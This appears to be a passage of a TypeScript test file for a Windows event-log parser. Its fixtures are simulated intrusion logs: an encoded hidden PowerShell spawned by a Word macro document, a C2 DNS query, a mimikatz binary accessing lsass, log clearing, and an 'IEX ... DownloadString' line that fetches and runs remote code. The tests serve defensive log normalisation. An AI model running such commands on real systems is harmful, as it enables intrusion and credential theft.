// Windows events in the four forms they are shipped in (Winlogbeat JSON,
// NXLog JSON, rendered EventLog XML, the Snare tab form), written for cairn
// from Microsoft's event documentation (Security auditing events, the Sysmon
// schema, PowerShell and AppLocker events): each mapped to ECS field by
// field, the forms agreeing with each other, and lines that are not Windows'.
import { describe, expect, it } from 'vitest';
import { ecsViolations } from '../ecs-values.js';
import { parseRaw } from '../registry.js';
import type { EventFields, ParseContext } from '../types.js';
import { windows } from './index.js';

const CTX: ParseContext = { source: 'windows', receivedAt: Date.UTC(2025, 5, 1) };
const NS = "xmlns='http://schemas.microsoft.com/win/2004/08/events/event'";
const SECURITY = "<Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-a5ba-3e3b0328c30d}'/>";
const SYSMON = "<Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385f-c22a-43e0-bf4c-06f5698ffbd9}'/>";
const AUDIT_SUCCESS = '0x8020000000000000';
const AUDIT_FAILURE = '0x8010000000000000';

/** One rendered event on one line, as Get-WinEvent's ToXml() writes it. */
function xml(o: { provider: string; id: number; channel: string; time: string; keywords?: string; data?: Record<string, string>; body?: string; user?: string; record?: number }): string {
  const data = o.data ? `<EventData>${Object.entries(o.data).map(([k, v]) => `<Data Name='${k}'>${v}</Data>`).join('')}</EventData>` : '';
  return (
    `<Event ${NS}><System>${o.provider}<EventID>${o.id}</EventID><Version>2</Version><Level>0</Level><Task>12544</Task><Opcode>0</Opcode>` +
    `<Keywords>${o.keywords ?? '0x8000000000000000'}</Keywords><TimeCreated SystemTime='${o.time}'/><EventRecordID>${o.record ?? 1001}</EventRecordID>` +
    `<Correlation/><Execution ProcessID='652' ThreadID='7788'/><Channel>${o.channel}</Channel><Computer>ws042.corp.example</Computer>` +
    `<Security${o.user ? ` UserID='${o.user}'` : ''}/></System>${data}${o.body ?? ''}</Event>`
  );
}

const LOGON_DATA = {
  SubjectUserSid: 'S-1-5-18',
  SubjectUserName: 'WS042$',
  SubjectDomainName: 'CORP',
  SubjectLogonId: '0x3e7',
  TargetUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1013',
  TargetUserName: 'alice',
  TargetDomainName: 'CORP',
  TargetLogonId: '0x8dcdc',
  LogonType: '3',
  LogonProcessName: 'NtLmSsp ',
  AuthenticationPackageName: 'NTLM',
  WorkstationName: 'WS099',
  ProcessId: '0x0',
  ProcessName: '-',
  IpAddress: '192.0.2.99',
  IpPort: '50522',
};

const LINES = {
  logonWinlogbeat: JSON.stringify({
    '@timestamp': '2024-03-05T10:12:13.456Z',
    event: { code: '4624', kind: 'event', provider: 'Microsoft-Windows-Security-Auditing', outcome: 'success', action: 'Logon' },
    host: { name: 'ws042.corp.example', os: { family: 'windows' } },
    agent: { type: 'winlogbeat', version: '8.13.0' },
    winlog: {
      channel: 'Security',
      event_id: '4624',
      provider_name: 'Microsoft-Windows-Security-Auditing',
      computer_name: 'ws042.corp.example',
      record_id: '88231',
      keywords: ['Audit Success'],
      time_created: '2024-03-05T10:12:13.401Z',
      process: { pid: 652, thread: { id: 7788 } },
      event_data: LOGON_DATA,
    },
    message: 'An account was successfully logged on.',
  }),
  logonXml: xml({ provider: SECURITY, id: 4624, channel: 'Security', time: '2024-03-05T10:12:13.4011234Z', keywords: AUDIT_SUCCESS, data: LOGON_DATA }),
  failedLogonNxlog: JSON.stringify({
    EventTime: '2024-03-05 11:12:13',
    Hostname: 'dc01.corp.example',
    Keywords: -9218868437227405312,
    EventType: 'AUDIT_FAILURE',
    SeverityValue: 4,
    Severity: 'ERROR',
    EventID: 4625,
    SourceName: 'Microsoft-Windows-Security-Auditing',
    ProviderGuid: '{54849625-5478-4994-A5BA-3E3B0328C30D}',
    Version: 0,
    Task: 12544,
    OpcodeValue: 0,
    RecordNumber: 991234,
    ProcessID: 652,
    ThreadID: 4300,
    Channel: 'Security',
    Category: 'Logon',
    Opcode: 'Info',
    SubjectUserSid: 'S-1-0-0',
    SubjectUserName: '-',
    SubjectDomainName: '-',
    SubjectLogonId: '0x0',
    TargetUserSid: 'S-1-0-0',
    TargetUserName: 'administrator',
    TargetDomainName: 'CORP',
    Status: '0xc000006d',
    FailureReason: '%%2313',
    SubStatus: '0xc000006a',
    LogonType: '10',
    WorkstationName: 'ATTACKER-PC',
    IpAddress: '203.0.113.50',
    IpPort: '0',
    EventReceivedTime: '2024-03-05 11:12:14',
    SourceModuleName: 'eventlog',
    SourceModuleType: 'im_msvistalog',
  }),
  processXml: xml({
    provider: SECURITY,
    id: 4688,
    channel: 'Security',
    time: '2024-03-05T10:20:00.000Z',
    keywords: AUDIT_SUCCESS,
    data: {
      SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1013',
      SubjectUserName: 'alice',
      SubjectDomainName: 'CORP',
      SubjectLogonId: '0x8dcdc',
      NewProcessId: '0x1a2c',
      NewProcessName: 'C:\\Windows\\System32\\whoami.exe',
      TokenElevationType: '%%1938',
      ProcessId: '0x22f0',
      CommandLine: 'whoami /priv &amp; echo &quot;done&quot;',
      TargetUserSid: 'S-1-0-0',
      TargetUserName: '-',
      TargetDomainName: '-',
      TargetLogonId: '0x0',
      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      MandatoryLabel: 'S-1-16-8192',
    },
  }),
  sysmonProcessXml: xml({
    provider: SYSMON,
    id: 1,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    time: '2024-03-05T10:30:00.120Z',
    user: 'S-1-5-18',
    data: {
      RuleName: '-',
      UtcTime: '2024-03-05 10:30:00.118',
      ProcessGuid: '{9f32b55f-2f1c-65e6-a402-000000000b00}',
      ProcessId: '6120',
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      FileVersion: '10.0.19041.3996 (WinBuild.160101.0800)',
      Description: 'Windows PowerShell',
      Product: 'Microsoft® Windows® Operating System',
      Company: 'Microsoft Corporation',
      OriginalFileName: 'PowerShell.EXE',
      CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgA',
      CurrentDirectory: 'C:\\Users\\alice\\',
      User: 'CORP\\alice',
      LogonGuid: '{9f32b55f-2a10-65e6-dccd-080000000000}',
      LogonId: '0x8dcdc',
      TerminalSessionId: '1',
      IntegrityLevel: 'Medium',
      Hashes: 'SHA1=04B4E5C3C4C3D5A1E3F3B6A5C1D2E3F4A5B6C7D8,MD5=7353F60B1739074EB17C5F4DDDEFE239,SHA256=DE96A6E69944335375DC1AC238336066889D9FFC7D73628EF4FE1B1B160AB32C,IMPHASH=741776AACCFC5B71FF59832DCDCACE0F',
      ParentProcessGuid: '{9f32b55f-2a12-65e6-3c01-000000000b00}',
      ParentProcessId: '4412',
      ParentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      ParentCommandLine: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\invoice.docm"',
      ParentUser: 'CORP\\alice',
    },
  }),
  sysmonNetworkXml: xml({
    provider: SYSMON,
    id: 3,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    time: '2024-03-05T10:30:02.000Z',
    user: 'S-1-5-18',
    data: {
      RuleName: 'technique_id=T1059.001',
      UtcTime: '2024-03-05 10:30:01.950',
      ProcessGuid: '{9f32b55f-2f1c-65e6-a402-000000000b00}',
      ProcessId: '6120',
      Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      User: 'CORP\\alice',
      Protocol: 'tcp',
      Initiated: 'true',
      SourceIsIpv6: 'false',
      SourceIp: '192.0.2.42',
      SourceHostname: 'ws042.corp.example',
      SourcePort: '51544',
      SourcePortName: '-',
      DestinationIsIpv6: 'false',
      DestinationIp: '198.51.100.7',
      DestinationHostname: '-',
      DestinationPort: '443',
      DestinationPortName: 'https',
    },
  }),
  sysmonDnsNxlog: JSON.stringify({
    EventTime: '2024-03-05 10:30:03',
    Hostname: 'ws042.corp.example',
    EventType: 'INFO',
    Severity: 'INFO',
    EventID: 22,
    SourceName: 'Microsoft-Windows-Sysmon',
    Channel: 'Microsoft-Windows-Sysmon/Operational',
    Category: 'Dns query (rule: DnsQuery)',
    UserID: 'S-1-5-18',
    AccountName: 'SYSTEM',
    Domain: 'NT AUTHORITY',
    RuleName: '-',
    UtcTime: '2024-03-05 10:30:02.777',
    ProcessGuid: '{9f32b55f-2f1c-65e6-a402-000000000b00}',
    ProcessId: '6120',
    QueryName: 'c2.badexample.net',
    QueryStatus: '0',
    QueryResults: 'type:  5 edge.badexample.net;::ffff:198.51.100.7;198.51.100.8;',
    Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    User: 'CORP\\alice',
  }),
  sysmonRegistryWinlogbeat: JSON.stringify({
    '@timestamp': '2024-03-05T10:31:00.000Z',
    winlog: {
      channel: 'Microsoft-Windows-Sysmon/Operational',
      event_id: 13,
      provider_name: 'Microsoft-Windows-Sysmon',
      computer_name: 'ws042.corp.example',
      user: { identifier: 'S-1-5-18', name: 'SYSTEM', domain: 'NT AUTHORITY', type: 'User' },
      event_data: {
        RuleName: 'T1547.001,RunKey',
        EventType: 'SetValue',
        UtcTime: '2024-03-05 10:30:59.500',
        ProcessGuid: '{9f32b55f-2f1c-65e6-a402-000000000b00}',
        ProcessId: '6120',
        Image: 'C:\\Windows\\System32\\reg.exe',
        TargetObject: 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
        Details: 'DWORD (0x00000001)',
        User: 'CORP\\alice',
      },
    },
  }),
  sysmonFileXml: xml({
    provider: SYSMON,
    id: 11,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    time: '2024-03-05T10:32:00.000Z',
    data: { RuleName: '-', UtcTime: '2024-03-05 10:31:59.900', ProcessGuid: '{9f32b55f-2f1c-65e6-a402-000000000b00}', ProcessId: '6120', Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', TargetFilename: 'C:\\Users\\alice\\AppData\\Local\\Temp\\stage2.DLL', CreationUtcTime: '2024-03-05 10:31:59.900', User: 'CORP\\alice' },
  }),
  sysmonImageLoadXml: xml({
    provider: SYSMON,
    id: 7,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    time: '2024-03-05T10:32:01.000Z',
    data: { UtcTime: '2024-03-05 10:32:00.950', ProcessId: '4412', Image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', ImageLoaded: 'C:\\Windows\\System32\\vbscript.dll', OriginalFileName: 'vbscript.dll', Hashes: 'SHA256=AAB0AA6B4E2D3A07C81C7B1F05FF66F0EB5D31C2A9E8C0F3D2B1A0E9F8D7C6B5', Signed: 'true', Signature: 'Microsoft Windows', SignatureStatus: 'Valid', User: 'CORP\\alice' },
  }),
  sysmonAccessXml: xml({
    provider: SYSMON,
    id: 10,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    time: '2024-03-05T10:33:00.000Z',
    data: { UtcTime: '2024-03-05 10:32:59.000', SourceProcessGUID: '{9f32b55f-3000-65e6-aa02-000000000b00}', SourceProcessId: '7000', SourceThreadId: '7004', SourceImage: 'C:\\Users\\alice\\AppData\\Local\\Temp\\mimi.exe', TargetProcessGUID: '{9f32b55f-0001-65e6-0c00-000000000b00}', TargetProcessId: '700', TargetImage: 'C:\\Windows\\system32\\lsass.exe', GrantedAccess: '0x1010', SourceUser: 'CORP\\alice', TargetUser: 'NT AUTHORITY\\SYSTEM' },
  }),
  logClearedXml: xml({
    provider: "<Provider Name='Microsoft-Windows-Eventlog' Guid='{fc65ddd8-d6ef-4962-83d5-6e5cfe9ce148}'/>",
    id: 1102,
    channel: 'Security',
    time: '2024-03-05T10:40:00.000Z',
    keywords: '0x4020000000000000',
    body: "<UserData><LogFileCleared xmlns='http://manifests.microsoft.com/win/2004/08/windows/eventlog'><SubjectUserSid>S-1-5-21-3623811015-3361044348-30300820-1013</SubjectUserSid><SubjectUserName>alice</SubjectUserName><SubjectDomainName>CORP</SubjectDomainName><SubjectLogonId>0x8dcdc</SubjectLogonId></LogFileCleared></UserData>",
  }),
  groupAddXml: xml({
    provider: SECURITY,
    id: 4728,
    channel: 'Security',
    time: '2024-03-05T10:41:00.000Z',
    keywords: AUDIT_SUCCESS,
    data: { MemberName: 'CN=Mallory Doe\\, Jr.,OU=Staff,DC=corp,DC=example', MemberSid: 'S-1-5-21-3623811015-3361044348-30300820-1099', TargetUserName: 'Domain Admins', TargetDomainName: 'CORP', TargetSid: 'S-1-5-21-3623811015-3361044348-30300820-512', SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1013', SubjectUserName: 'alice', SubjectDomainName: 'CORP', SubjectLogonId: '0x8dcdc', PrivilegeList: '-' },
  }),
  lockoutXml: xml({
    provider: SECURITY,
    id: 4740,
    channel: 'Security',
    time: '2024-03-05T10:42:00.000Z',
    keywords: AUDIT_SUCCESS,
    data: { TargetUserName: 'bob', TargetDomainName: 'WS099', TargetSid: 'S-1-5-21-3623811015-3361044348-30300820-1022', SubjectUserSid: 'S-1-5-18', SubjectUserName: 'DC01$', SubjectDomainName: 'CORP', SubjectLogonId: '0x3e7' },
  }),
  ntlmFailedXml: xml({
    provider: SECURITY,
    id: 4776,
    channel: 'Security',
    time: '2024-03-05T10:43:00.000Z',
    keywords: AUDIT_FAILURE,
    data: { PackageName: 'MICROSOFT_AUTHENTICATION_PACKAGE_V1_0', TargetUserName: 'bob', Workstation: 'WS099', Status: '0xc0000234' },
  }),
  kerberosXml: xml({
    provider: SECURITY,
    id: 4768,
    channel: 'Security',
    time: '2024-03-05T10:44:00.000Z',
    keywords: AUDIT_SUCCESS,
    data: { TargetUserName: 'alice', TargetDomainName: 'CORP.EXAMPLE', TargetSid: 'S-1-5-21-3623811015-3361044348-30300820-1013', ServiceName: 'krbtgt', ServiceSid: 'S-1-5-21-3623811015-3361044348-30300820-502', TicketOptions: '0x40810010', Status: '0x0', TicketEncryptionType: '0x12', PreAuthType: '2', IpAddress: '::ffff:192.0.2.42', IpPort: '49832' },
  }),
  serviceInstallXml: xml({
    provider: "<Provider Name='Service Control Manager' Guid='{555908d1-a6d7-4695-8e1e-26931d2012f4}' EventSourceName='Service Control Manager'/>",
    id: 7045,
    channel: 'System',
    time: '2024-03-05T10:45:00.000Z',
    user: 'S-1-5-21-3623811015-3361044348-30300820-1013',
    data: { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' },
  }),
  scriptBlockWinlogbeat: JSON.stringify({
    '@timestamp': '2024-03-05T10:46:00.000Z',
    winlog: {
      channel: 'Microsoft-Windows-PowerShell/Operational',
      event_id: '4104',
      provider_name: 'Microsoft-Windows-PowerShell',
      computer_name: 'ws042.corp.example',
      user: { identifier: 'S-1-5-21-3623811015-3361044348-30300820-1013' },
      event_data: { MessageNumber: '1', MessageTotal: '1', ScriptBlockText: 'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a")', ScriptBlockId: '5e0e2c38-3a4f-4c64-bb2d-3c6e5a6b2a11', Path: '' },
    },
  }),
  classicPowerShellXml: xml({
    provider: "<Provider Name='PowerShell'/>",
    id: 400,
    channel: 'Windows PowerShell',
    time: '2024-03-05T10:47:00.000Z',
    keywords: '0x80000000000000',
    body:
      '<EventData><Data>Available</Data><Data>None</Data><Data>\tNewEngineState=Available&#xA;\tPreviousEngineState=None&#xA;&#xA;\tSequenceNumber=13&#xA;&#xA;\tHostName=ConsoleHost&#xA;\tHostVersion=5.1.19041.3996&#xA;\tHostId=4b1f2a47-2d7b-4d29-9a0b-6d0a66f1f7a2&#xA;\tHostApplication=powershell.exe -nop -w hidden -enc SQBFAFgA&#xA;\tEngineVersion=5.1.19041.3996&#xA;\tRunspaceId=8a5b2c0e-1f2d-4c3b-9a8e-7d6c5b4a3f21&#xA;\tPipelineId=&#xA;\tCommandName=&#xA;\tCommandType=&#xA;\tScriptName=&#xA;\tCommandPath=&#xA;\tCommandLine=</Data></EventData>',
  }),
  appLockerXml: xml({
    provider: "<Provider Name='Microsoft-Windows-AppLocker' Guid='{cbda4dbf-8d5d-4f69-9578-be14aa540d22}'/>",
    id: 8004,
    channel: 'Microsoft-Windows-AppLocker/EXE and DLL',
    time: '2024-03-05T10:48:00.000Z',
    user: 'S-1-5-21-3623811015-3361044348-30300820-1013',
    body:
      "<UserData><RuleAndFileData xmlns='http://schemas.microsoft.com/schemas/event/Microsoft.Windows/1.0.0.0'><PolicyNameLength>3</PolicyNameLength><PolicyName>EXE</PolicyName><RuleId>{fd686d83-a829-4351-8ff4-27c7de5755d2}</RuleId><RuleNameLength>9</RuleNameLength><RuleName>Block Temp</RuleName><TargetUser>S-1-5-21-3623811015-3361044348-30300820-1013</TargetUser><TargetProcessId>9120</TargetProcessId><FilePath>%OSDRIVE%\\USERS\\ALICE\\APPDATA\\LOCAL\\TEMP\\MIMI.EXE</FilePath><FileHash>5A726C2818C02A58E423194F56CEF057819F3B4A80E4BE2B724E69AFA4E7A364</FileHash><Fqbn>O=GENTILKIWI, L=PARIS, S=ILE-DE-FRANCE, C=FR\\MIMIKATZ\\MIMIKATZ.EXE\\2.2.0.0</Fqbn><FullFilePath>C:\\Users\\alice\\AppData\\Local\\Temp\\mimi.exe</FullFilePath></RuleAndFileData></UserData>",
  }),
  failedLogonSnare:
    '<13>Mar  5 11:12:13 dc01 MSWinEventLog\t1\tSecurity\t991234\tTue Mar 05 11:12:13 2024\t4625\tMicrosoft-Windows-Security-Auditing\tN/A\tN/A\tFailure Audit\tdc01.corp.example\tLogon\t\tAn account failed to log on.    Subject:   Security ID:  S-1-0-0   Account Name:  -   Account Domain:  -   Logon ID:  0x0    Logon Type:   10    Account For Which Logon Failed:   Security ID:  S-1-0-0   Account Name:  administrator   Account Domain:  CORP    Failure Information:   Failure Reason:  Unknown user name or bad password.   Status:   0xC000006D   Sub Status:  0xC000006A    Process Information:   Caller Process ID: 0x0   Caller Process Name: -    Network Information:   Workstation Name: ATTACKER-PC   Source Network Address: 203.0.113.50   Source Port:  0    Detailed Authentication Information:   Logon Process:  User32    Authentication Package: Negotiate   Transited Services: -   Package Name (NTLM only): -   Key Length:  0    This event is generated when a logon request fails.\t991234',
  processSnare:
    '<13>Mar  5 10:20:00 ws042 MSWinEventLog\t1\tSecurity\t1200\tTue Mar 05 10:20:00 2024\t4688\tMicrosoft-Windows-Security-Auditing\tN/A\tN/A\tSuccess Audit\tws042.corp.example\tProcess Creation\t\tA new process has been created.    Creator Subject:   Security ID:  S-1-5-21-3623811015-3361044348-30300820-1013   Account Name:  alice   Account Domain:  CORP   Logon ID:  0x8DCDC    Target Subject:   Security ID:  S-1-0-0   Account Name:  -   Account Domain:  -   Logon ID:  0x0    Process Information:   New Process ID:  0x1a2c   New Process Name: C:\\Windows\\System32\\whoami.exe   Token Elevation Type: %%1938   Mandatory Label:  S-1-16-8192   Creator Process ID: 0x22f0   Creator Process Name: C:\\Windows\\System32\\cmd.exe   Process Command Line: whoami /priv    Token Elevation Type indicates the type of token that was assigned to the new process.\t1200',
} as const;

function parse(line: string): EventFields {
  const fields = windows.parse(line, CTX);
  if (!fields) throw new Error(`not read as a Windows event: ${line.slice(0, 80)}`);
  return fields;
}

describe('windows Security events', () => {
  it('4624 from Winlogbeat: the target account, where the network logon came from, the logon type', () => {
    const fields = parse(LINES.logonWinlogbeat);
    expect(fields).toMatchObject({
      '@timestamp': '2024-03-05T10:12:13.401Z',
      'event.kind': 'event',
      'event.module': 'system',
      'event.dataset': 'system.security',
      'event.code': '4624',
      'event.provider': 'Microsoft-Windows-Security-Auditing',
      'event.category': ['authentication'],
      'event.type': ['start'],
      'event.action': 'logged-in',
      'event.outcome': 'success',
      'user.name': 'alice',
      'user.domain': 'CORP',
      'user.id': 'S-1-5-21-3623811015-3361044348-30300820-1013',
      'source.ip': '192.0.2.99',
      'source.port': 50522,
      'source.domain': 'WS099',
      'host.name': 'ws042.corp.example',
      'winlog.channel': 'Security',
      'winlog.event_id': '4624',
      'winlog.record_id': '88231',
      'winlog.logon.type': 'Network',
      'winlog.logon.id': '0x8dcdc',
      'winlog.event_data.SubjectUserName': 'WS042$',
      'winlog.event_data.LogonType': '3',
      'agent.type': 'winlogbeat',
      message: 'An account was successfully logged on.',
    });
    expect(fields).not.toHaveProperty(['process.pid']);
  });

  it('4624 as rendered XML maps as the Winlogbeat document does', () => {
    const fromXml = parse(LINES.logonXml);
    const fromJson = parse(LINES.logonWinlogbeat);
    for (const field of ['event.action', 'event.category', 'event.outcome', 'user.name', 'user.id', 'source.ip', 'source.port', 'winlog.logon.type', 'winlog.event_data.AuthenticationPackageName']) {
      expect(fromXml[field], field).toEqual(fromJson[field]);
    }
    expect(fromXml).toMatchObject({ '@timestamp': '2024-03-05T10:12:13.401Z', 'winlog.process.pid': 652, 'winlog.record_id': '1001', 'winlog.version': 2 });
  });

  it('4625 from NXLog: a failure, its reasons in words, the account that failed', () => {
    expect(parse(LINES.failedLogonNxlog)).toMatchObject({
      '@timestamp': '2024-03-05T11:12:13.000Z',
      'event.action': 'logon-failed',
      'event.outcome': 'failure',
      'user.name': 'administrator',
      'user.domain': 'CORP',
      'source.ip': '203.0.113.50',
      'source.domain': 'ATTACKER-PC',
      'host.name': 'dc01.corp.example',
      'winlog.logon.type': 'RemoteInteractive',
      'winlog.logon.failure.status': 'This is either due to a bad username or authentication information',
      'winlog.logon.failure.sub_status': 'User logon with misspelled or bad password',
      'winlog.logon.failure.reason': 'Unknown user name or bad password.',
      'winlog.record_id': '991234',
    });
    // Port 0 is no port.
    expect(parse(LINES.failedLogonNxlog)).not.toHaveProperty(['source.port']);
  });

  it('4688: the new process and its parent, the command line unescaped, the creator as user', () => {
    expect(parse(LINES.processXml)).toMatchObject({
      'event.category': ['process'],
      'event.type': ['start'],
      'event.action': 'created-process',
      'process.pid': 0x1a2c,
      'process.executable': 'C:\\Windows\\System32\\whoami.exe',
      'process.name': 'whoami.exe',
      'process.command_line': 'whoami /priv & echo "done"',
      'process.parent.pid': 0x22f0,
      'process.parent.executable': 'C:\\Windows\\System32\\cmd.exe',
      'process.parent.name': 'cmd.exe',
      'user.name': 'alice',
      'user.id': 'S-1-5-21-3623811015-3361044348-30300820-1013',
    });
    expect(parse(LINES.processXml)).not.toHaveProperty(['user.effective.name']);
  });

  it('1102 (UserData), 4728 (group and member), 4740 (the locked account as target)', () => {
    expect(parse(LINES.logClearedXml)).toMatchObject({ 'event.action': 'audit-log-cleared', 'event.category': ['iam'], 'user.name': 'alice', 'winlog.user_data.SubjectLogonId': '0x8dcdc', 'event.outcome': 'success' });
    expect(parse(LINES.groupAddXml)).toMatchObject({
      'event.action': 'added-member-to-group',
      'event.type': ['group', 'change'],
      'user.name': 'alice',
      'group.name': 'Domain Admins',
      'group.id': 'S-1-5-21-3623811015-3361044348-30300820-512',
      'user.target.name': 'Mallory Doe, Jr.',
      'user.target.id': 'S-1-5-21-3623811015-3361044348-30300820-1099',
    });
    expect(parse(LINES.lockoutXml)).toMatchObject({ 'event.action': 'locked-out-user-account', 'user.name': 'DC01$', 'user.target.name': 'bob', 'user.target.domain': 'WS099' });
  });

  it('4776 and 4768: the result code decides the outcome; a Kerberos client address as IPv4', () => {
    expect(parse(LINES.ntlmFailedXml)).toMatchObject({ 'event.action': 'credential-validated', 'event.outcome': 'failure', 'user.name': 'bob', 'source.domain': 'WS099', 'winlog.logon.failure.status': 'User logon with account locked' });
    expect(parse(LINES.kerberosXml)).toMatchObject({
      'event.action': 'kerberos-authentication-ticket-requested',
      'event.outcome': 'success',
      'user.name': 'alice',
      'user.domain': 'CORP.EXAMPLE',
      'source.ip': '192.0.2.42',
      'source.port': 49832,
      'service.name': 'krbtgt',
      'winlog.event_data.StatusDescription': 'KDC_ERR_NONE',
    });
  });

  it('7045 in the System channel is a service install', () => {
    expect(parse(LINES.serviceInstallXml)).toMatchObject({
      'event.dataset': 'system.system',
      'event.action': 'service-installed',
      'event.category': ['iam', 'configuration'],
      'service.name': 'PSEXESVC',
      'winlog.event_data.ImagePath': '%SystemRoot%\\PSEXESVC.exe',
      'user.id': 'S-1-5-21-3623811015-3361044348-30300820-1013',
    });
  });

  it('the Snare tab form: the message read back into the event data, mapped as the other forms', () => {
    const snare = parse(LINES.failedLogonSnare);
    const nxlog = parse(LINES.failedLogonNxlog);
    for (const field of ['event.code', 'event.action', 'event.outcome', 'user.name', 'user.domain', 'source.ip', 'source.domain', 'winlog.logon.type', 'winlog.logon.failure.status', 'winlog.logon.failure.sub_status', 'host.name']) {
      expect(snare[field], field).toEqual(nxlog[field]);
    }
    expect(snare).toMatchObject({ '@timestamp': '2024-03-05T11:12:13.000Z', 'winlog.event_data.TargetUserName': 'administrator', 'winlog.event_data.AuthenticationPackageName': 'Negotiate', 'winlog.record_id': '991234' });
    expect(parse(LINES.processSnare)).toMatchObject({
      'event.action': 'created-process',
      'process.executable': 'C:\\Windows\\System32\\whoami.exe',
      'process.pid': 0x1a2c,
      'process.parent.name': 'cmd.exe',
      'process.command_line': 'whoami /priv',
      'user.name': 'alice',
    });
  });
});

describe('windows Sysmon events', () => {
  it('1: the process, its parent, hashes, PE details; the time is UtcTime', () => {
    expect(parse(LINES.sysmonProcessXml)).toMatchObject({
      '@timestamp': '2024-03-05T10:30:00.118Z',
      'event.dataset': 'windows.sysmon_operational',
      'event.code': '1',
      'event.category': ['process'],
      'event.type': ['start'],
      'event.action': 'Process creation',
      'process.entity_id': '{9f32b55f-2f1c-65e6-a402-000000000b00}',
      'process.pid': 6120,
      'process.executable': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'process.name': 'powershell.exe',
      'process.command_line': 'powershell.exe -nop -w hidden -enc SQBFAFgA',
      'process.working_directory': 'C:\\Users\\alice\\',
      'process.pe.original_file_name': 'PowerShell.EXE',
      'process.hash.sha256': 'de96a6e69944335375dc1ac238336066889d9ffc7d73628ef4fe1b1b160ab32c',
      'process.pe.imphash': '741776aaccfc5b71ff59832dcdcace0f',
      'process.parent.pid': 4412,
      'process.parent.name': 'WINWORD.EXE',
      'process.parent.command_line': '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\invoice.docm"',
      'user.name': 'alice',
      'user.domain': 'CORP',
      'winlog.event_data.IntegrityLevel': 'Medium',
      'winlog.event_data.Hashes': expect.stringContaining('IMPHASH=741776AACCFC5B71FF59832DCDCACE0F'),
      'winlog.user.identifier': 'S-1-5-18',
    });
    expect(parse(LINES.sysmonProcessXml)).not.toHaveProperty(['rule.name']);
  });

  it('3: the connection, its direction and the application protocol', () => {
    expect(parse(LINES.sysmonNetworkXml)).toMatchObject({
      'event.category': ['network'],
      'event.type': ['start', 'connection', 'protocol'],
      'network.transport': 'tcp',
      'network.direction': 'egress',
      'network.type': 'ipv4',
      'network.protocol': 'https',
      'source.ip': '192.0.2.42',
      'source.port': 51544,
      'source.domain': 'ws042.corp.example',
      'destination.ip': '198.51.100.7',
      'destination.port': 443,
      'rule.name': 'technique_id=T1059.001',
    });
    expect(parse(LINES.sysmonNetworkXml)).not.toHaveProperty(['destination.domain']);
  });

  it('22 from NXLog: the query and the addresses it resolved to', () => {
    expect(parse(LINES.sysmonDnsNxlog)).toMatchObject({
      '@timestamp': '2024-03-05T10:30:02.777Z',
      'event.action': 'DNSEvent (DNS query)',
      'network.protocol': 'dns',
      'dns.question.name': 'c2.badexample.net',
      'dns.resolved_ip': ['198.51.100.7', '198.51.100.8'],
      'process.name': 'powershell.exe',
      'user.name': 'alice',
      'winlog.user.name': 'SYSTEM',
    });
  });

  it('13 from Winlogbeat: the registry path split, a DWORD as its number', () => {
    expect(parse(LINES.sysmonRegistryWinlogbeat)).toMatchObject({
      'event.category': ['configuration', 'registry'],
      'registry.hive': 'HKU',
      'registry.key': 'S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
      'registry.value': 'Updater',
      'registry.data.type': 'REG_DWORD',
      'registry.data.strings': ['1'],
      'process.name': 'reg.exe',
      'rule.name': 'T1547.001,RunKey',
      'winlog.event_data.TargetObject': expect.stringContaining('\\Run\\Updater'),
    });
  });

  it('11, 7, 10: the file created, the DLL loaded, the source process of an access', () => {
    expect(parse(LINES.sysmonFileXml)).toMatchObject({ 'event.category': ['file'], 'event.type': ['creation'], 'file.path': 'C:\\Users\\alice\\AppData\\Local\\Temp\\stage2.DLL', 'file.name': 'stage2.DLL', 'file.extension': 'dll', 'file.directory': 'C:\\Users\\alice\\AppData\\Local\\Temp' });
    expect(parse(LINES.sysmonImageLoadXml)).toMatchObject({
      'event.category': ['process', 'library'],
      'file.path': 'C:\\Windows\\System32\\vbscript.dll',
      'file.pe.original_file_name': 'vbscript.dll',
      'file.hash.sha256': 'aab0aa6b4e2d3a07c81c7b1f05ff66f0eb5d31c2a9e8c0f3d2b1a0e9f8d7c6b5',
      'file.code_signature.valid': true,
      'process.name': 'WINWORD.EXE',
    });
    expect(parse(LINES.sysmonAccessXml)).toMatchObject({ 'event.action': 'ProcessAccess', 'process.pid': 7000, 'process.thread.id': 7004, 'process.name': 'mimi.exe', 'winlog.event_data.TargetImage': 'C:\\Windows\\system32\\lsass.exe', 'winlog.event_data.GrantedAccess': '0x1010' });
  });
});

describe('windows PowerShell and AppLocker events', () => {
  it('4104: the script block kept in the event data, the user by SID', () => {
    const fields = parse(LINES.scriptBlockWinlogbeat);
    expect(fields).toMatchObject({
      'event.dataset': 'windows.powershell_operational',
      'event.category': ['process'],
      'event.type': ['info'],
